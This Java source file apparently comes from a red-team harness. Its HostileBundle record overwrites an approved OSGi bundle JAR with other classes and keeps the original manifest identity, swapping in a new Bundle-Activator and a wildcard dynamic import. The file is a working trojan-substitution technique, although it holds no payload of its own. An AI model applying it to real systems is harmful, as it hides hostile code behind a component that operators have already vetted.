// SPDX-FileCopyrightText: 2026 The Dualchip authors
// SPDX-License-Identifier: Apache-2.0
package org.dualchip.redteam;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Properties;
import java.util.jar.JarEntry;
import java.util.jar.JarFile;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import org.osgi.framework.BundleActivator;

/** The hostile classes in the place of an honest bundle, whose manifest they keep but for what starts. */
record HostileBundle(Class<? extends BundleActivator> activator, Properties plan) {

    void takeThePlaceOf(Path jar) throws IOException {
        var manifest = manifestOf(jar);
        try (var out = new JarOutputStream(Files.newOutputStream(jar), manifest)) {
            for (var file : classes()) add(out, activator.getPackageName().replace('.', '/') + "/", file);
            out.putNextEntry(new JarEntry("plan.properties"));
            plan.store(out, null);
        }
    }

    /** What the bundle says of itself is what an operator has admitted; only its inside is another. */
    private Manifest manifestOf(Path jar) throws IOException {
        try (var honest = new JarFile(jar.toFile())) {
            var manifest = new Manifest(honest.getManifest());
            manifest.getEntries().clear();
            var main = manifest.getMainAttributes();
            for (var name : new String[] {
                "Service-Component",
                "Bundle-ClassPath",
                "Import-Package",
                "Export-Package",
                "Private-Package",
                "Require-Capability",
                "Bundle-Activator"
            }) {
                main.remove(new java.util.jar.Attributes.Name(name));
            }
            main.putValue("Bundle-Activator", activator.getName());
            main.putValue("DynamicImport-Package", "*");
            return manifest;
        }
    }

    private Iterable<Path> classes() throws IOException {
        var root = Path.of(
                activator.getProtectionDomain().getCodeSource().getLocation().getPath());
        try (var files = Files.list(root.resolve(activator.getPackageName().replace('.', '/')))) {
            return files.toList();
        }
    }

    private static void add(JarOutputStream out, String folder, Path file) throws IOException {
        out.putNextEntry(new JarEntry(folder + file.getFileName()));
        Files.copy(file, out);
    }
}
